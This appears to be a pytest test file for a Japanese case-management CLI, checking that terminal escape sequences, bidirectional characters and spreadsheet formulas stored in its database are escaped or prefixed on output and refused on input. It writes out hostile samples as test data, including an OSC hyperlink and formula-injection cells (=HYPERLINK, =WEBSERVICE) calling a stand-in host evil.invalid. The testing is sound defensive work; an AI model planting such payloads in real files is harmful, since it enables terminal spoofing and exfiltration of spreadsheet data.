"""Hostile text in, nothing harmful out (SPEC §8 and §13, issue 17 findings 2 and 3).

- Terminal control sequences and bidirectional characters written straight into the database (as a restored
  hostile file would hold them, bypassing the input checks) never reach the output of a human-readable command,
  on a pipe or on a terminal.
- Spreadsheet formulas come out of every `--excel` CSV with the `'` prefix, in English and in Japanese, and an
  `--excel` export imports back to the same values.
- Input refuses control, bidirectional and zero-width characters (exit 2, the database unchanged).
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from pathlib import Path

import pytest

import conftest
from conftest import database_dump, run_cli
from teikan_cli import render

AS_OF = "--as-of=2025-06-20"

ESCAPES = {
    "title": "\x1b]0;pwned\x07",
    "clear": "\x1b[2J\x1b[H",
    "link": "\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "c1-csi": "\x9b31m",
    "rlo": "\u202egnp.exe",
    "zero-width": "a\u200bb",
    "bell": "\x07",
}
HOSTILE = "".join(ESCAPES.values())
# What must never appear on stdout: the raw characters, whatever rich adds around them.
FORBIDDEN = ("\x1b]", "\x1b[2J", "\x1b[H", "\x07", "\x9b", "\u202e", "\u200b")


def _setup() -> None:
    for args in (
        ("init", "--office-name", "事業所"),
        ("add-staff", "佐藤", "--role", "supporter", "--hours", "40", "--from", "2024-04-01"),
        ("add-staff", "鈴木", "--role", "manager", "--hours", "40", "--from", "2024-04-01"),
        ("add-client", "山田 太郎", "--employment-start", "2024-04-01", "--support-start", "2024-10-01",
         "--employer", "会社", "--staff", "佐藤", "--certificate", "0123456789", "--grant-until", "2025-07-10",
         "--kana", "ヤマダ", "--note", "メモ"),
        ("log-visit", "1", "--date", "2025-05-12", "--type", "face", "--concern", "attendance", "--staff", "佐藤",
         "--note", "五月"),
        ("log-visit", "1", "--date", "2025-06-02", "--type", "remote", "--concern", "attendance",
         "--concern", "medication", "--staff", "佐藤", "--note", "六月"),
        ("plan", "1", "--date", "2024-10-15"),
        ("handover", "1", "--center", "センター", "--note", "引継ぎメモ"),
    ):
        r = run_cli(*args, AS_OF)
        assert (r.exit_code, r.stderr) == (0, ""), (args, r)


def _columns(conn: sqlite3.Connection, table: str) -> set[str]:
    return {row[1] for row in conn.execute(f"PRAGMA table_info({table})")}


def _write_directly(db: Path, values: dict[tuple[str, str], str]) -> None:
    """Set text columns with sqlite3 itself, as a hand-edited or restored file would hold them (the columns a
    table does not have, in a later schema, are skipped)."""
    conn = sqlite3.connect(db)
    try:
        with conn:
            for (table, column), value in values.items():
                if column in _columns(conn, table):
                    # people.name is unique: the first person gets the value, the others it with their id
                    unique = " || CASE id WHEN (SELECT MIN(id) FROM people) THEN '' ELSE id END" \
                        if table == "people" else ""
                    conn.execute(f"UPDATE {table} SET {column} = ?{unique}", (value,))
    finally:
        conn.close()


def _hostile_database(db: Path) -> None:
    _setup()
    _write_directly(db, {
        ("clients", "name"): f"山田{HOSTILE}太郎", ("clients", "kana"): f"ヤマダ{HOSTILE}",
        ("clients", "employer"): f"会社{HOSTILE}", ("clients", "staff"): f"佐藤{HOSTILE}",
        ("clients", "note"): f"メモ{HOSTILE}\n二行目", ("contacts", "note"): f"記録{HOSTILE}\n二行目",
        ("contacts", "staff"): f"佐藤{HOSTILE}", ("office", "name"): f"事業所{HOSTILE}",
        ("handovers", "center"): f"センター{HOSTILE}", ("handovers", "note"): f"引継ぎ{HOSTILE}",
        ("staff_assignments", "name"): f"佐藤{HOSTILE}", ("people", "name"): f"佐藤{HOSTILE}",
    })


HUMAN_COMMANDS = [
    ["clients"], ["clients", "--wareki"], ["visits"], ["visits", "--wareki"], ["show-client", "1"],
    ["show-client", "1", "--history"], ["report", "--month", "2025-06"], ["report", "--month", "2025-05"],
    ["check"], ["check", "--month", "2025-05"], ["support-report", "1", "--month", "2025-06"],
    ["support-report", "1", "--month", "2025-05", "--format", "text"], ["due"], ["watch"],
    ["handovers", "--within", "3650"],
    ["staff"],
]


def _assert_clean(args, r) -> None:
    assert r.exit_code in (0, 1), (args, r)
    assert "Traceback" not in r.stderr, (args, r)
    for text in (r.stdout, r.stderr):
        found = [f for f in FORBIDDEN if f in text]
        assert found == [], (args, found, text)


@pytest.mark.parametrize("args", HUMAN_COMMANDS, ids=[" ".join(a) for a in HUMAN_COMMANDS])
def test_escape_sequences_from_the_database_never_reach_a_pipe(db_path, args):
    _hostile_database(db_path)
    r = run_cli(*args, AS_OF)
    _assert_clean(args, r)
    assert "\x1b" not in r.stdout, (args, r.stdout)
    if args[0] not in ("staff", "check", "watch"):
        assert "\\x1b" in r.stdout or "\\u202e" in r.stdout, (args, r.stdout)  # shown, escaped


@pytest.mark.parametrize("args", HUMAN_COMMANDS, ids=[" ".join(a) for a in HUMAN_COMMANDS])
def test_escape_sequences_from_the_database_never_reach_a_terminal(db_path, args, monkeypatch):
    """With stdout a terminal and colours on, rich draws the tables: its own styling codes are fine, the data's
    are not."""
    _hostile_database(db_path)
    monkeypatch.setattr(conftest._Stream, "isatty", lambda self: True)
    r = run_cli(*args, AS_OF, env={"NO_COLOR": None, "TERM": "xterm-256color"})
    _assert_clean(args, r)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_escape_sequences_in_japanese_output_too(db_path, lang):
    _hostile_database(db_path)
    for args in HUMAN_COMMANDS:
        _assert_clean(args, run_cli(*args, AS_OF, env={"TEIKAN_LANG": lang}))


def test_an_error_naming_a_hostile_csv_header_is_escaped(db_path, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text(f"name,role,hours,{HOSTILE}\n佐藤,supporter,40,x\n", encoding="utf-8")
    r = run_cli("import", "staff", str(path), AS_OF)
    assert r.exit_code == 2
    assert [f for f in FORBIDDEN if f in r.stderr] == [], r.stderr
    assert "\\x1b]0;pwned\\x07" in r.stderr and "\\u202e" in r.stderr


def test_safe_text():
    assert render.safe_text("plain 山田　太郎") == "plain 山田　太郎"
    assert render.safe_text("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert render.safe_text("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert render.safe_text("\u202eabc\u2066\u200b\ufeff") == "\\u202eabc\\u2066\\u200b\\ufeff"
    assert render.safe_text("\x9b\x85") == "\\x9b\\x85"
    assert render.safe_text("one\ntwo\r\nthree\rfour") == "one ↵ two ↵ three ↵ four"
    assert render.safe_text("one\ntwo", newline=" ") == "one two"
    assert render.safe_text("tab\there") == "tab here"
    assert render.safe_text("\udcff") == "\\udcff"
    assert render.safe_text("\U000e0041") == "\\U000e0041"


# ------------------------------------------------------------------ formulas and --excel

FORMULAS = {
    ("clients", "name"): '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    ("clients", "employer"): "=1+2",
    ("clients", "note"): "@SUM(A1:A9)",
    ("clients", "kana"): "+1",
    ("contacts", "note"): "-1",
    ("handovers", "center"): "=WEBSERVICE(\"http://evil.invalid\")",
}
FORMULA_START = re.compile(r"[=+\-@\t\r]")


def _formula_database(db: Path) -> None:
    _setup()
    _write_directly(db, FORMULAS)


def _cells(text: str) -> list[str]:
    text = text.removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


EXCEL_OUTPUTS = [
    ["clients", "--excel"], ["clients", "--status", "all", "--format", "csv", "--excel"], ["visits", "--excel"],
    ["show-client", "1", "--format", "csv", "--excel"], ["report", "--month", "2025-06", "--excel"],
    ["report", "--month", "2025-06", "--format", "csv", "--excel"], ["handovers", "--within", "3650", "--excel"],
    ["staff", "--excel"], ["due", "--excel"], ["watch", "--excel"],
    ["export", "clients", "--excel"], ["export", "contacts", "--excel"], ["export", "staff", "--excel"],
]


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize("args", EXCEL_OUTPUTS, ids=[" ".join(a) for a in EXCEL_OUTPUTS])
def test_every_excel_output_prefixes_formulas(db_path, args, lang):
    _formula_database(db_path)
    r = run_cli(*args, AS_OF, env={"TEIKAN_LANG": lang})
    assert r.exit_code in (0, 1) and r.stderr == "", (args, r)
    assert r.stdout.startswith("\ufeff"), (args, r)
    cells = _cells(r.stdout)
    assert [c for c in cells if FORMULA_START.match(c)] == [], (args, r.stdout)
    if args[0] in ("clients", "show-client", "report", "export") and args[1:2] != ["staff"] and \
            args[1:2] != ["contacts"]:
        assert "'" + FORMULAS[("clients", "name")] in cells, (args, r.stdout)
    if args[:2] in (["visits", "--excel"], ["export", "contacts"]):
        assert "'-1" in cells, (args, r.stdout)


def test_plain_csv_is_unchanged(db_path):
    """Without --excel: codes, English headers, no prefix, whatever the language."""
    _formula_database(db_path)
    for lang in ("en", "ja"):
        r = run_cli("clients", "--format", "csv", AS_OF, env={"TEIKAN_LANG": lang})
        assert r.stdout.startswith("id,name,"), r
        assert FORMULAS[("clients", "name")] in _cells(r.stdout)
        r = run_cli("export", "contacts", env={"TEIKAN_LANG": lang})
        assert r.stdout.startswith("client,date,types,") and ",-1\r\n" in r.stdout, r


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_excel_exports_import_back_to_the_same_values(db_path, tmp_path, lang):
    _formula_database(db_path)
    _write_directly(db_path, {("people", "name"): "-佐藤", ("contacts", "staff"): "-佐藤",
                              ("clients", "staff"): "@佐藤"})
    other = tmp_path / "other.db"
    for kind in ("staff", "clients", "contacts"):
        exported = run_cli("export", kind, "--excel", env={"TEIKAN_LANG": lang})
        assert exported.exit_code == 0, exported
        path = tmp_path / f"{kind}.csv"
        path.write_bytes(exported.stdout.encode("utf-8"))
        r = run_cli("--db", str(other), "import", kind, str(path), AS_OF, env={"TEIKAN_LANG": lang})
        assert r.exit_code == 0, r
        again = run_cli("import", kind, str(path), AS_OF)  # into the first database: nothing new
        assert (again.exit_code, again.stdout.split(": ")[1].split(",")[0]) == (0, "0 added"), again
    for kind in ("staff", "clients", "contacts"):
        assert run_cli("--db", str(other), "export", kind).stdout == run_cli("export", kind).stdout, kind
    assert FORMULAS[("clients", "name")] in _cells(run_cli("--db", str(other), "export", "clients").stdout)


def test_excel_cell_rules():
    for value in ('=HYPERLINK("x")', "=1+2", "@SUM(A1:A9)", "+1", "-1", "\tx", "\rx", "'=1", "''+1"):
        assert render.excel_cell(value) == "'" + value
        assert render.excel_value(render.excel_cell(value)) == value
    for value in ("plain", "", "'quoted", "1-2", "a=b", "山田", "'", "''"):
        assert render.excel_cell(value) == value
        assert render.excel_value(value) == value
    assert render.excel_value("'=1") == "=1" and render.excel_value("'x") == "'x"


def test_a_tab_leading_value_comes_out_prefixed(db_path):
    """A value starting with TAB can only come from a hand-made file (input trims it): it is prefixed too."""
    _setup()
    _write_directly(db_path, {("clients", "employer"): "\t=1+2"})
    for args in (["export", "clients", "--excel"], ["clients", "--format", "csv", "--excel"]):
        cells = _cells(run_cli(*args, AS_OF).stdout)
        assert "'\t=1+2" in cells and "\t=1+2" not in cells, args


# ------------------------------------------------------------------ input refuses hidden characters

REFUSED = [
    (["add-client", "山田\x1b[2J", "--employment-start", "2024-04-01", "--support-start", "2024-10-01"],
     "name: control character U+001B at character 3: remove it"),
    (["add-client", "山田\u202e太郎", "--employment-start", "2024-04-01", "--support-start", "2024-10-01"],
     "name: bidirectional control U+202E at character 3 (it can disguise the text): remove it"),
    (["add-client", "山田\u200b太郎", "--employment-start", "2024-04-01", "--support-start", "2024-10-01"],
     "name: invisible zero-width character U+200B at character 3: remove it"),
    (["add-client", "山田\ufeff", "--employment-start", "2024-04-01", "--support-start", "2024-10-01"],
     "name: invisible zero-width character U+FEFF at character 3: remove it"),
    (["add-client", "山田", "--employer", "会社\x9b", "--employment-start", "2024-04-01", "--support-start",
      "2024-10-01"], "employer: control character U+009B at character 3: remove it"),
    (["add-client", "山田", "--kana", "ヤ\tマダ", "--employment-start", "2024-04-01", "--support-start",
      "2024-10-01"], "kana: control character U+0009 at character 2: remove it"),
    (["log-visit", "1", "--type", "face", "--note", "ok\u2066isolate"],
     "note: bidirectional control U+2066 at character 3 (it can disguise the text): remove it"),
    (["log-visit", "1", "--type", "face", "--note", "bell\x07"],
     "note: control character U+0007 at character 5: remove it"),
    (["log-visit", "1", "--type", "face", "--staff", "佐\u200d藤"],
     "--staff: invisible zero-width character U+200D at character 2: remove it"),
    (["edit-client", "1", "--employer", "\u061c会社"],
     "employer: bidirectional control U+061C at character 1 (it can disguise the text): remove it"),
    (["add-staff", "佐藤\u200f", "--role", "supporter", "--hours", "40"],
     "name: bidirectional control U+200F at character 3 (it can disguise the text): remove it"),
    (["handover", "1", "--center", "セン\u202aター"],
     "--center: bidirectional control U+202A at character 3 (it can disguise the text): remove it"),
]


@pytest.mark.parametrize(("args", "message"), REFUSED, ids=[repr(a[1:2]) + str(i) for i, (a, _) in enumerate(REFUSED)])
def test_input_refuses_hidden_characters(db_path, args, message):
    _setup()
    before = database_dump(db_path)
    r = run_cli(*args, AS_OF)
    assert (r.exit_code, r.stdout, r.stderr) == (2, "", f"Error: {message}\n")
    assert database_dump(db_path) == before


def test_refusal_in_japanese_says_what_and_where(db_path):
    _setup()
    r = run_cli("add-client", "山田\u202e", "--employment-start", "2024-04-01", "--support-start", "2024-10-01",
                AS_OF, env={"TEIKAN_LANG": "ja"})
    assert (r.exit_code, r.stderr) == (
        2, "エラー: 氏名: 3文字目に文字の向きを変える制御文字 U+202E があります（表示を偽装できます）。取り除いてください\n")


def test_a_note_keeps_line_breaks_tabs_and_zero_width_joiners(db_path):
    _setup()
    note = "一行目\r\n二行目\tタブ 👨\u200d👩\u200d👧"
    r = run_cli("log-visit", "1", "--type", "face", "--note", note, AS_OF)
    assert (r.exit_code, r.stderr) == (0, ""), r
    import json

    stored = json.loads(run_cli("visits", "--format", "json", AS_OF).stdout)["contacts"][-1]["note"]
    assert stored == "一行目\n二行目\tタブ 👨\u200d👩\u200d👧"


@pytest.mark.parametrize("cell", ["山田\u202e", "山田\x1b[31m", "山\u200b田", "山\x85田"])
def test_import_refuses_hidden_characters(db_path, tmp_path, cell):
    _setup()
    before = database_dump(db_path)
    path = tmp_path / "c.csv"
    path.write_text(f"name,role,hours\n{cell},supporter,40\n", encoding="utf-8")
    r = run_cli("import", "staff", str(path), AS_OF)
    assert r.exit_code == 2 and r.stdout == "", r
    assert r.stderr.startswith("line 2: name: ") and r.stderr.endswith("Error: 1 bad row(s); nothing was imported\n")
    assert [f for f in FORBIDDEN if f in r.stderr] == [] and "\x1b" not in r.stderr and "\x85" not in r.stderr
    assert database_dump(db_path) == before
